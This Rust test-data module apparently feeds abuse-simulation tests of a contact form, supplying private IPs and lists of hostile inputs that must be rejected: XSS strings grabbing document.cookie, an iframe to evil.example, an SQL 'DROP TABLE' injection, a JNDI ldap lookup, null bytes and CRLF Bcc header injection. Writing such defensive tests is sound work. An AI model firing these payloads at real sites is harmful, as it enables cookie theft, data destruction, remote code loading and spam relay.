// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators for abuse simulation.

use serde_json::{json, Value};
use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of IP addresses for testing.
pub fn generate_ips(count: usize) -> Vec<IpAddr> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c))
        })
        .collect()
}

/// Markup and control-character payloads that must never reach the email intact.
pub fn injection_messages() -> Vec<&'static str> {
    vec![
        "<script>alert(document.cookie)</script> hello there",
        "<img src=x onerror=alert(1)> look at this",
        "<<script>>nested brackets<</script>>",
        "null\0byte\0smuggling attempt",
        "</div></body></html><h1>Injected</h1>",
        "<iframe src=\"https://evil.example\"></iframe>",
    ]
}

/// Names that must be rejected by the allow-list.
pub fn hostile_names() -> Vec<&'static str> {
    vec![
        "<b>Jane</b>",
        "Robert'); DROP TABLE students;--",
        "Jane\0Doe",
        "${jndi:ldap://evil}",
        "Jane Doe\r\nBcc: victim@example.com",
    ]
}

/// Email addresses that must be rejected.
pub fn malformed_emails() -> Vec<&'static str> {
    vec![
        "plainaddress",
        "user@@example.com",
        "user@example",
        "user name@example.com",
        "user@example.com\nbcc@example.com",
        "@example.com",
        "user@",
    ]
}

/// Wrap a message in an otherwise valid submission.
pub fn payload_with_message(message: &str) -> Value {
    json!({
        "name": "Jane Doe",
        "email": "jane@example.com",
        "message": message,
    })
}

/// Wrap a name in an otherwise valid submission.
pub fn payload_with_name(name: &str) -> Value {
    json!({
        "name": name,
        "email": "jane@example.com",
        "message": "Hello, I would like to get in touch regarding your work.",
    })
}

/// Wrap an email in an otherwise valid submission.
pub fn payload_with_email(email: &str) -> Value {
    json!({
        "name": "Jane Doe",
        "email": email,
        "message": "Hello, I would like to get in touch regarding your work.",
    })
}
